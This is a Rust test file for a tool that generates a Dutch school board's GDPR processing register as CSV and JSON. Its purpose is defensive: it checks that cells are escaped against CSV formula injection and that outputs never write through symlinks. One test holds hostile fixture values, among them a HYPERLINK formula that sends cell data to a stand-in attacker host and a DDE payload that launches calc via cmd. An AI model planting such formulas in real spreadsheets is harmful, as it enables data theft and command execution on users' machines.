//! `helder register`: the record of processing activities (GDPR art. 30)
//! that a board's FG keeps, read back as a spreadsheet and another tool
//! would read it: the CSV by a CSV reader, the JSON against the schema the
//! project ships; and what committed files cannot make it do: write through
//! a link, or put a formula in the FG's spreadsheet.

use crate::common::*;

/// The register's CSV as a Dutch spreadsheet reads it: cells separated by
/// `;`, after the byte order mark (which the reader skips).
fn csv_reader(site: &Site) -> csv::Reader<std::fs::File> {
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_path(site.path("register/verwerkingsregister.csv"))
        .unwrap()
}

/// The activities of the example as another YAML parser reads them: (id,
/// per_school).
fn activities(site: &Site) -> Vec<(String, bool)> {
    let file: serde_yaml::Value = site.yaml("content/activities.yaml");
    file["activities"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|a| {
            let id = a["id"].as_str().unwrap().to_string();
            (id, a["per_school"].as_bool().unwrap_or(false))
        })
        .collect()
}

#[test]
fn the_register_has_a_full_row_per_activity_and_json_that_meets_its_schema() {
    let site = Site::example();
    let run = site.helder(&["register"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let expected = activities(&site);

    let mut csv = csv_reader(&site);
    let header: Vec<String> = csv.headers().unwrap().iter().map(str::to_string).collect();
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), expected.len(), "one row per activity");
    // Every column of GDPR art. 30(1) filled in on every row.
    for row in &rows {
        for (name, cell) in header.iter().zip(row.iter()) {
            assert!(!cell.trim().is_empty(), "{}: no {name}", &row[0]);
        }
    }
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (controller, dpo) = (
        column("Verwerkingsverantwoordelijke"),
        column("Functionaris gegevensbescherming"),
    );
    assert!(
        rows[0][controller].starts_with("Scholengroep OPRON, "),
        "{:?}",
        &rows[0]
    );
    assert_eq!(&rows[0][dpo], "fg@opron.nl");
    assert!(rows.iter().any(|r| r[column("Bewaartermijn")] == *"5 jaar"));

    let json: serde_json::Value =
        serde_json::from_str(&site.read("register/verwerkingsregister.json")).unwrap();
    let schema: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(example_root().join("schema/register.schema.json")).unwrap(),
    )
    .unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&json)
        .map(|e| e.to_string())
        .collect();
    assert!(errors.is_empty(), "{errors:?}");

    let entries = json["processingActivities"].as_array().unwrap();
    let schools: serde_yaml::Value = site.yaml("schools.yaml");
    let all = schools["schools"].as_sequence().unwrap().len();
    for ((id, per_school), entry) in expected.iter().zip(entries) {
        assert_eq!(entry["id"], id.as_str());
        assert!(
            entry["hasLegalBasis"].as_str().unwrap().starts_with("dpv:"),
            "{id}"
        );
        let doing = entry["schools"].as_array().unwrap().len();
        if *per_school {
            assert!(
                doing < all,
                "{id}: a practice of some schools, listed for all"
            );
        } else {
            assert_eq!(doing, all, "{id}");
        }
    }
}

/// The schema is not a formality: a register without its controller fails.
#[test]
fn the_schema_refuses_a_register_without_its_controller() {
    let schema: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(example_root().join("schema/register.schema.json")).unwrap(),
    )
    .unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let broken = serde_json::json!({ "processingActivities": [] });
    assert!(!validator.is_valid(&broken));
}

/// What a cell must say for `value` of the model: the value, with a `'`
/// before it when a spreadsheet would take it for a formula (OWASP).
fn as_cell(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_string()
    }
}

/// Values of the model that a spreadsheet takes for formulas used to be
/// written into the CSV as they were, and the CSV was separated by commas,
/// which Excel with Dutch settings opens in one column.
#[test]
fn the_csv_opens_in_columns_and_holds_no_formula() {
    let site = Site::fixture("minimal");
    let hyperlink = r#"=HYPERLINK("https://kwaad.example/?d="&A1;"Café")"#;
    site.edit(
        "content/board.yaml",
        "name: Stichting Voorbeeldscholen",
        &format!("name: '{hyperlink}'"),
    );
    site.edit(
        "content/data.yaml",
        "name: Leerlingadministratie",
        "name: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
    );
    site.edit(
        "content/data.yaml",
        "purpose: We schrijven",
        "purpose: +31 598 000000 belt terug. We schrijven",
    );
    site.edit(
        "content/data.yaml",
        "law: Wet op het primair onderwijs, artikel 40",
        "law: \"-2+3 Wet op het primair onderwijs, artikel 40\"",
    );
    site.edit(
        "content/data.yaml",
        "    name: Leerlingen",
        "    name: \"\\tLeerlingen\"",
    );
    let run = site.helder(&["register"]);
    assert_eq!(run.code, 0, "{}", run.stderr);

    let bytes = std::fs::read(site.path("register/verwerkingsregister.csv")).unwrap();
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "no byte order mark for Excel"
    );
    let mut csv = csv_reader(&site);
    let header: Vec<String> = csv.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(header.len(), 17, "{header:?}");
    assert_eq!(header[0], "Verwerking");
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    for cell in header.iter().map(String::as_str).chain(row.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula in the CSV: {cell:?}"
        );
    }

    // Every cell taken from the model as the model says it, read by
    // another YAML parser.
    let board: serde_yaml::Value = site.yaml("content/board.yaml");
    let data: serde_yaml::Value = site.yaml("content/data.yaml");
    let (o, a) = (&board["organisation"], &data["activities"][0]);
    let s = |v: &serde_yaml::Value| v.as_str().unwrap().to_string();
    let address = &o["visiting_address"];
    let column = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
    let subject = s(&data["subjects"][0]["name"]);
    let expected = [
        ("Verwerking", as_cell(&s(&a["name"]))),
        (
            "Verwerkingsverantwoordelijke",
            as_cell(&format!(
                "{}, {}, {} {}, {}",
                s(&o["name"]),
                s(&address["street"]),
                s(&address["postcode"]),
                s(&address["place"]),
                s(&o["email"])
            )),
        ),
        ("Functionaris gegevensbescherming", s(&o["dpo"]["email"])),
        ("Doel", as_cell(s(&a["purpose"]).trim())),
        ("Wet", as_cell(&s(&a["law"]))),
        ("Betrokkenen", as_cell(&subject)),
        (
            "Persoonsgegevens",
            as_cell(&format!("{subject}: {}", s(&data["categories"][0]["name"]))),
        ),
        (
            "Bron van de bewaartermijn",
            s(&data["retention"][0]["source"]),
        ),
        ("Scholen", "de-linde".to_string()),
    ];
    for (name, cell) in expected {
        assert_eq!(column(name), cell, "{name}");
    }
    assert!(column("Verwerkingsverantwoordelijke").starts_with("'=HYPERLINK"));
    assert!(column("Betrokkenen").starts_with("'\t"));

    // The JSON keeps every value as it is.
    let json: serde_json::Value =
        serde_json::from_str(&site.read("register/verwerkingsregister.json")).unwrap();
    assert_eq!(json["hasDataController"]["name"], hyperlink);
    let entry = &json["processingActivities"][0];
    assert_eq!(entry["name"], s(&a["name"]).as_str());
    assert_eq!(entry["law"], s(&a["law"]).as_str());
    assert_eq!(entry["hasDataSubject"][0], subject.as_str());
}

/// A link committed in place of `register/` or of one of its files used to
/// be written through: the register overwrote a file outside the site.
#[test]
#[cfg(unix)]
fn the_register_never_writes_through_a_link() {
    use std::os::unix::fs::symlink;

    // A link in place of the folder: refused, with the link named.
    let site = Site::fixture("minimal");
    let elsewhere = Site::empty();
    let outside = elsewhere.root.clone();
    std::fs::write(outside.join("verwerkingsregister.csv"), "niet van helder").unwrap();
    symlink(&outside, site.path("register")).unwrap();
    let run = site.helder_in_dutch(&["register"]);
    assert_eq!(
        run.code, 2,
        "refused, not a mistake in the model: {}",
        run.stderr
    );
    assert!(
        run.stderr.contains("register` is een link naar"),
        "{}",
        run.stderr
    );
    let left: Vec<_> = files(&outside);
    assert_eq!(
        left,
        vec![std::path::PathBuf::from("verwerkingsregister.csv")]
    );
    assert_eq!(
        std::fs::read_to_string(outside.join("verwerkingsregister.csv")).unwrap(),
        "niet van helder"
    );

    // Links in place of the files: replaced by the register, their
    // targets left as they were.
    std::fs::remove_file(site.path("register")).unwrap();
    std::fs::create_dir(site.path("register")).unwrap();
    for extension in ["csv", "json"] {
        let target = outside.join(format!("doel.{extension}"));
        std::fs::write(&target, "niet van helder").unwrap();
        symlink(
            &target,
            site.path(&format!("register/verwerkingsregister.{extension}")),
        )
        .unwrap();
    }
    let run = site.helder(&["register"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("was a link to"), "{}", run.stderr);
    for extension in ["csv", "json"] {
        let target = outside.join(format!("doel.{extension}"));
        assert_eq!(
            std::fs::read_to_string(&target).unwrap(),
            "niet van helder",
            "written through the link to {}",
            target.display()
        );
        let written = site.path(&format!("register/verwerkingsregister.{extension}"));
        let kind = std::fs::symlink_metadata(&written).unwrap().file_type();
        assert!(kind.is_file(), "{} is still a link", written.display());
    }
    assert_eq!(csv_reader(&site).records().count(), 1);
    // Nothing left beside them.
    assert_eq!(files(&site.path("register")).len(), 2);
}
